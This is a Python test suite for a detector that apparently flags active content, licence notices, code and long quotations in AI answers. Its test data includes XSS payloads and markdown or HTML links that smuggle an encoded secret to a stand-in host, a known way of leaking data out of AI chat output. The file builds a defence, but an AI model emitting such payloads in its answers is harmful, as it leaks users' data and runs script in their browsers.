"""What an answer may hold besides words."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gateway.content.signals import outputs

if TYPE_CHECKING:
    from gateway.core.signals import OutputSignals

DATA = "U2VjcmV0IG9mIEFjbWUgR21iSCBhbmQgb3RoZXJz"

ACTIVE = [
    ("script", "<script>alert(1)</script>"),
    ("script", "[click](javascript:alert(1))"),
    ("script", "<IFRAME src=x>"),
    ("html_event", '<img alt="a" onerror = "x()">'),
    ("html_event", "<svg/onload=x>"),
    ("remote_image", "![logo](https://x.example/a.png)"),
    ("remote_image", "![logo][ref]"),
    ("remote_image", '<img width=1 src="//x.example/a.gif">'),
    ("remote_image", "background: url(https://x.example/a.png)"),
    ("data_exfiltration_url", f"[more](https://x.example/r?id={DATA})"),
    ("data_exfiltration_url", f'<a href="https://x.example/?q=1&data={DATA}">x</a>'),
    ("data_exfiltration_url", f"![x](https://x.example/{DATA}{DATA}.png)"),
    ("data_exfiltration_url", f"[a]: https://x.example/?text={DATA}"),
]

HARMLESS = [
    "A [link](https://docs.example/guide) and ![local](images/a.png).",
    "Use the onboarding page = the first one.",
    "a < b and c > d, on = off",
    "| a | b |\n|---|---|",
    "The word javascript alone.",
    "https://search.example/?page=2",
]

PIECES = (
    [text for _, text in ACTIVE]
    + HARMLESS
    + [
        *(
            "\n",
            " ",
            "\n\u2003 ",
            "\u00e9",
            "\ud800",
            "/",
            '"',
            "\u201c",
            "\u201d",
            "> ",
            "word " * 62,
        ),
        *("def run(", "class Run:", "import os", "from a.b import c", "#include", "function f("),
        *(
            "const a =",
            "public ",
            "return x",
            "SELECT a FROM b",
            "if (a) {",
            "for (;;) {",
            "}",
            "a;",
        ),
        *(
            "<object x",
            "<embed ",
            "vbscript:",
            "<source src=//",
            "<video poster=//",
            "<input src=//",
        ),
        *("```", "~~~", "   ```", "Copyright", "(c)", "License:", "licensed under", "// licence"),
        *("AGPL v3", "GNU Affero General Public", "LGPL", "GNU Library General Public", "GPLv2"),
        *("GPL 3", "GNU General Public License, as published by x version 2", "MPL 2.0"),
        *("GNU General Public Licence v3", "Mozilla Public License", "CC-BY-SA", "cc by sa"),
        *("Creative Commons Attribution-Share", "(dpa) -", "All rights reserved", "(AFP)\u2014"),
        *("Alle Rechte vorbehalten", "tous droits r\u00e9serv\u00e9s", "alle rechten voorbehouden"),
    ]
)
"""What the expressions are about, and what stands between."""

UNUSUAL = str.maketrans({"i": "\u0131", "I": "\u0130", "s": "\u017f", "k": "\u212a"})


def _read_plainly(text: str) -> OutputSignals:
    """As `outputs.read`, with every expression tried."""
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(outputs, "_possible", lambda _: set(outputs._TRIGGERS))
        return outputs.read(text)


class TestTriggers:
    @given(
        st.lists(
            st.sampled_from(PIECES)
            | st.sampled_from(PIECES).map(str.swapcase)
            | st.sampled_from(PIECES).map(lambda text: text.translate(UNUSUAL))
            | st.text(st.characters(codec=None), max_size=12),
            max_size=9,
        ).map("".join)
    )
    @example("".join(PIECES))
    @example("\n".join(PIECES).translate(UNUSUAL))
    def test_what_is_read_does_not_hang_on_them(self, text: str) -> None:
        """
        A text is read as if every expression had been tried on it.
        """
        assert outputs.read(text) == _read_plainly(text)

    @pytest.mark.parametrize("piece", [*PIECES, *map(str.upper, PIECES)])
    def test_none_is_missed_alone(self, piece: str) -> None:
        """
        The same, for each thing by itself, between lines and with its letters written otherwise.
        """
        for text in (
            piece,
            piece.translate(UNUSUAL),
            f"\u2003{piece}\n" * 3,
            f"// (c) {piece}",
            f"{piece} {'word ' * 62}",
        ):
            assert outputs.read(text) == _read_plainly(text)

    def test_other_letters_that_count_as_plain_ones_are_known(self) -> None:
        """
        Without regard to case an expression takes these four, and no others, for ASCII letters.
        """
        letter = re.compile("[a-z]", re.IGNORECASE)
        taken = {chr(point) for point in range(128, 0x110000) if letter.match(chr(point))}

        assert taken == set(outputs._ALSO_LETTERS)
        for sign, plain in outputs._ALSO_LETTERS.items():
            assert re.match(plain, sign, re.IGNORECASE)


class TestActiveContent:
    @pytest.mark.parametrize(("label", "text"), ACTIVE)
    def test_what_acts_is_told(self, label: str, text: str) -> None:
        """
        Each form of active content has its label.
        """
        assert label in outputs.read(text).active_content

    @pytest.mark.parametrize("text", HARMLESS)
    def test_what_only_reads_is_not(self, text: str) -> None:
        """
        Links, tables and talk are not active.
        """
        assert outputs.read(text).active_content == ()

    @given(st.text(alphabet="<![](=ona \"'/:?&https", max_size=3_000))
    def test_any_text_comes_back(self, text: str) -> None:
        """
        Whatever the text, there is an answer in the closed list.
        """
        assert set(outputs.read(text).active_content) <= {
            "script",
            "html_event",
            "remote_image",
            "data_exfiltration_url",
        }


class TestLicences:
    @pytest.mark.parametrize(
        ("label", "text"),
        [
            ("GPL-2.0", "# SPDX-License-Identifier: GPL-2.0-only"),
            ("GPL-3.0", " * under the terms of the GNU General Public License version 3"),
            ("AGPL-3.0", "// SPDX-License-Identifier: AGPL-3.0-or-later"),
            ("LGPL", "/* Licensed under the LGPL-2.1 */"),
            ("MPL-2.0", "// This Source Code is subject to the terms: License: MPL-2.0"),
            ("CC-BY-SA", "# Copyright 2020 A. Licensed under CC BY-SA 4.0"),
        ],
    )
    def test_a_notice_is_told(self, label: str, text: str) -> None:
        """
        OR-06: a copyleft notice in a header or comment.
        """
        assert outputs.read(text).licence_match == (label,)

    def test_talk_about_a_licence_is_no_notice(self) -> None:
        """
        An answer that explains the GPL-3.0 carries no code under it.
        """
        assert outputs.read("The GPL-3.0 asks you to share changes.").licence_match == ()
        assert outputs.read("# SPDX-License-Identifier: MIT").licence_match == ()


class TestCodeAndQuotations:
    def test_code_is_told(self) -> None:
        """
        A fence, or several lines that look like code.
        """
        assert outputs.read("```python\nprint(1)\n```").code
        assert outputs.read("import os\ndef main():\n    return 1\nclass A:\n").code
        assert not outputs.read("Two sentences. No code at all.").code

    def test_a_long_quotation_is_told(self) -> None:
        """
        Sixty words between quotation marks, in a block, or below an agency's line.
        """
        words = "word " * 70

        assert outputs.read(f"\u201c{words}\u201d").verbatim
        assert outputs.read(f"> {words}").verbatim
        assert outputs.read(f"BERLIN (Reuters) - {words}").verbatim
        assert not outputs.read(f"\u201cshort\u201d {words}").verbatim

    def test_the_form_is_that_of_the_contract(self) -> None:
        """
        Nothing but labels and truth values.
        """
        assert outputs.read("hello").as_input() == {
            "active_content": [],
            "code": False,
            "verbatim": False,
            "licence_match": [],
            "canary": False,
        }
